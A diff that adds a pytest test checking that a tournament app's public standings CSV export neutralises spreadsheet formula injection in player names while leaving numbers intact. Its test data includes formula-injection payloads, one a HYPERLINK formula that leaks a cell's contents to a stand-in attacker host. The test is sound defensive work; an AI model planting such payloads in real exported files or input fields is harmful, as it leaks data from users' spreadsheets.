@@ -419,3 +419,45 @@ def test_a_deal_calculated_on_other_chips_is_stale() -> None:
     with pytest.raises(Conflict) as info:
         payouts.deal_accept(actor=director, deal=deal)
     assert info.value.code == "deal_stale"
+
+
+# --- downloads ----------------------------------------------------------------------------------------------
+
+
+def test_standings_csv_neutralises_formulas_and_keeps_numbers() -> None:
+    import csv
+    import io
+
+    from apps.public.downloads import csv_cell
+
+    # given a published running tournament whose players' names are spreadsheet formulas
+    club, director = given_director()
+    t = given_tournament(club, director, 0, published=True)
+    names = [
+        '=HYPERLINK("http://evil.example/?"&A1,"prize")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "\tTab",
+        "\rCR",
+        "Ann",
+    ]
+    from apps.tournaments.services import entry_register
+
+    for name in names:
+        entry_register(actor=director, tournament=t, player_name=name)
+    seating.tournament_start(actor=director, tournament=t)
+
+    # when the public downloads the standings
+    response = Client().get(f"/t/{t.pk}/standings.csv")
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+
+    # then no cell starts with a formula character, and the numbers are numbers
+    players = {r["player"] for r in rows}
+    assert players == {"'" + n for n in names[:-1]} | {"Ann"}
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "@", "\t", "\r")), row
+        assert row["chips"].isdigit()
+    assert [csv_cell(v) for v in (-12, "-12.50", "-5 chips", 0)] == [-12, "-12.50", "'-5 chips", 0]
